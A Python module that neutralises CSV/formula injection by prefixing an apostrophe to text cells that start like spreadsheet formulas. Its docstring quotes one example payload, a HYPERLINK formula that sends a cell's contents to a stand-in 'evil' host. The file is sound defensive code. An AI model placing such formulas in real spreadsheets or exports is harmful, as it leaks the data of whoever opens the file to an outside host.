"""CSV files for spreadsheets, with no cell a spreadsheet would run as a formula.

Organisation, site and workplace names are typed by people outside the programme. A name
like ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` in a report CSV would run when a
buyer opens it in Excel or LibreOffice (CSV injection, OWASP). Every report and export CSV is
written through :func:`writer`, which makes a text cell starting with ``= + - @``, a tab or a
carriage return plain text by putting an apostrophe before it, as OWASP recommends.
Numbers stay numbers. (The translators' catalog exchange is not a report: its text is the
project's own and it must read back exactly, so it uses the csv module directly.)
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


class _Out(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell(value: object) -> object:
    """``value``, with an apostrophe before a text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` with every text cell passed through :func:`cell`."""

    def __init__(self, out: _Out) -> None:
        self._writer = csv.writer(out)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row."""
        self._writer.writerow([cell(value) for value in row])


def writer(out: _Out) -> SafeWriter:
    """A CSV writer for a report or an export."""
    return SafeWriter(out)
